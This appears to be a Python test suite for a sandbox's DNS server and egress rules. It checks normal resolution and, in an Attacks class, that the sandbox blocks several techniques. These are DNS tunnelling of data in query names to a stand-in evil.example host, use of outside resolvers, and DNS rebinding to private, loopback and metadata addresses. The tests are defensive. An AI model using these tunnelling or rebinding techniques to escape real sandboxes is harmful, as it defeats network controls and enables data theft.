"""DNS: answered by the sandbox's own server, for allowed names, and by nobody else."""

import unittest

import internet
from internet import METADATA, OTHER, PRIVATE, PUBLIC, PUBLIC6

NXDOMAIN = (3, 0)
TCP = """
def ask_tcp(address, *messages):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
        s.connect((address, 53))
        s.sendall(b"".join(struct.pack("!H", len(m)) + m for m in messages))
        stream, out = s.makefile("rb"), []
        for _ in messages:
            head = stream.read(2)
            out.append(stream.read(struct.unpack("!H", head)[0]) if len(head) == 2 else b"")
        return out
"""


class Server(internet.TestCase):
    def test_answers_over_udp_and_tcp_on_both_families(self):
        self.world.name("example.org", [PUBLIC, PUBLIC6])
        program = TCP + """
for server in "10.0.2.3", "fd00::3":
    for kind in 1, 28:
        print(rcode(ask(server, 53, query("example.org", kind))), rcode(ask_tcp(server, query("example.org", kind))[0]))
"""
        self.assert_ended(self.python(["example.org"], program), 0, out="(0, 1) (0, 1)\n" * 4)

    def test_answers_many_queries_of_many_connections(self):
        self.world.name("example.org", [PUBLIC])
        program = TCP + """
import concurrent.futures
def client(n):
    replies = ask_tcp("10.0.2.3", *(query("example.org", 1, n * 8 + i) for i in range(8)))
    return sorted(struct.unpack("!H", r[:2])[0] for r in replies) == list(range(n * 8, n * 8 + 8))
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    print(all(pool.map(client, range(16))))
"""
        self.assert_ended(self.python(["example.org"], program), 0, out="True\n")

    def test_an_answer_that_does_not_fit_comes_over_tcp(self):
        addresses = [f"93.184.{i}.1" for i in range(60)]
        self.world.name("many.example", addresses)
        program = TCP + """
short, long = ask("10.0.2.3", 53, query("many.example")), ask_tcp("10.0.2.3", query("many.example"))[0]
print(bool(short[2] & 2), rcode(long), len(resolve("many.example")))
"""
        self.assert_ended(self.python(["many.example"], program), 0, out="True (0, 60) 60\n")

    def test_other_types_are_empty_and_ask_nobody(self):
        self.world.name("example.org", [PUBLIC])
        program = "print([rcode(ask('10.0.2.3', 53, query('example.org', k))) for k in (2, 5, 12, 15, 16, 33, 65, 255)])"
        self.assert_ended(self.python(["example.org"], program), 0, out=f"{[(0, 0)] * 8}\n")
        self.assertEqual(self.world.queries(), [])

    def test_a_name_that_does_not_exist(self):
        program = "print(rcode(ask('10.0.2.3', 53, query('nowhere.example.org'))))"
        self.assert_ended(self.python(["*.example.org"], program), 0, out=f"{NXDOMAIN}\n")
        self.assertEqual(self.world.queries(), [("nowhere.example.org", 1)])

    def test_survives_what_is_no_query(self):
        self.world.name("example.org", [PUBLIC])
        program = TCP + """
import random
random.seed(1)
good = query("example.org", edns=True)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(("10.0.2.3", 53))
    for i in range(3000):
        bad = bytearray(good)
        for _ in range(random.randrange(1, 5)):
            bad[random.randrange(len(bad))] = random.randrange(256)
        s.send(bytes(bad[:random.randrange(len(bad) + 1)]))
    s.send(bytes(60000))
for junk in b"", b"\\0", b"\\0\\0", b"\\xff\\xff" + bytes(100), b"\\0\\x0c" + bytes(12), bytes(100000):
    with socket.create_connection(("10.0.2.3", 53)) as s:
        try:
            s.sendall(junk)
        except OSError:
            pass
time.sleep(0.2)
print(rcode(ask_tcp("10.0.2.3", good)[0]), resolve("example.org"))
"""
        self.assert_ended(self.python(["example.org"], program), 0, out=f"(0, 1) ['{PUBLIC}']\n")

    def test_the_time_to_live_is_passed_on_and_bounded(self):
        self.world.name("short.example", [PUBLIC], ttl=7)
        self.world.name("long.example", [PUBLIC], ttl=10_000_000)
        program = """
for name in "short.example", "long.example":
    print(struct.unpack("!I", ask("10.0.2.3", 53, query(name))[-10:-6])[0])
"""
        self.assert_ended(self.python([], program), 0, out="7\n3600\n")


class Attacks(internet.TestCase):
    def test_a_tunnel_through_dns(self):
        """Data in the names of queries: reaches a server for the names that are allowed, and no other."""
        for rules, arrives in ((["*.evil.example"], True), (["*.good.example"], False)):
            self.world.forget()
            program = """
for i in range(20):
    ask("10.0.2.3", 53, query(f"{os.urandom(20).hex()}.{i}.evil.example", (1, 28, 16)[i % 3]))
print("sent")
"""
            ended = self.python(rules, program)
            self.assert_ended(ended, 0, out="sent\n")
            self.assertEqual(bool(self.world.queries()), arrives)
            self.assertEqual(self.world.packets(), [])
        self.assertEqual(ended.err.count("denied dns "), 20, ended)

    def test_another_resolver(self):
        """UDP, TCP and TLS to somebody else's resolver: a rule must name it."""
        self.world.name("example.org", [PUBLIC])
        program = """
for resolver in "8.8.8.8", "2001:4860:4860::8888", "9.9.9.9":
    udp = ask(resolver, 53, query("example.org"))
    print(udp if udp.startswith(b"failed") else rcode(udp), connect(resolver, 53), connect(resolver, 853))
"""
        ended = self.python(["8.8.8.8", "2001:4860:4860::8888", "9.9.9.9"], program)
        self.assert_ended(ended, 0, out="(0, 1) connected failed: Connection refused\n" * 3)
        for rules in ([], ["public"], ["example.org"], [PUBLIC], ["0.0.0.0/0:443", "[::/0]:443"]):
            with self.subTest(rules=rules):
                self.world.forget()
                ended = self.python(rules, program)
                self.assertEqual(ended.out.count("failed"), 9, ended)
                self.assertEqual(self.world.packets(), [])
                self.assertEqual(self.world.queries(), [])
                self.assert_denied(ended, "connect", "8.8.8.8:53/udp")

    def test_rebinding(self):
        """A name whose second answer is an address that its owner has no business with."""
        for address in (PRIVATE, METADATA, "127.0.0.1", "0.0.0.0", internet.HOST, "10.0.2.2"):
            for rules in ([], ["evil.example"], ["*.example", "public"]):
                with self.subTest(address=address, rules=rules):
                    self.world.name("evil.example", [PUBLIC], [address])
                    ended = self.python(rules, f"print(resolve('evil.example'), resolve('evil.example'), connect('{address}', 80))")
                    self.assertIn(f"['{PUBLIC}'] failed: ", ended.out, ended)
                    self.assertNotIn("connected", ended.out, ended)
                    self.assertIn(f"denied dns evil.example -> {address} (", ended.err, ended)
        self.assertEqual(self.world.packets(), [])

    def test_rebinding_over_ipv6(self):
        for address in ("::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "fd00:ec2::254", "2002:7f00:1::", internet.HOST6):
            with self.subTest(address=address):
                self.world.name("evil.example", [PUBLIC6], [address])
                ended = self.python(["evil.example"], "print(resolve('evil.example'), resolve('evil.example'))")
                self.assertIn(f"['{PUBLIC6}'] failed: ", ended.out, ended)

    def test_rebinding_is_what_it_stops(self):
        """The control: the same name, when a rule names the private address too."""
        self.world.name("evil.example", [PUBLIC], [PRIVATE])
        program = "resolve('evil.example'); print(fetch('http://evil.example/'))"
        self.assert_reached(self.python(["evil.example", f"{PRIVATE}:80"], program), PRIVATE)

    def test_a_private_name_of_the_hosts_own_file(self):
        ended = self.python(["private-from-hosts.example"], "print(resolve('private-from-hosts.example'))")
        self.assertIn("failed", ended.out)
        self.assert_denied(ended, "dns", f"private-from-hosts.example -> {PRIVATE} (private)")

    def test_an_answer_that_names_many_addresses_opens_the_public_ones(self):
        self.world.name("mixed.example", [PRIVATE, PUBLIC, METADATA, OTHER])
        ended = self.python(["mixed.example"], "print(resolve('mixed.example'))")
        self.assert_ended(ended, 0, out=f"{sorted([PUBLIC, OTHER])}\n")


if __name__ == "__main__":
    internet.main()
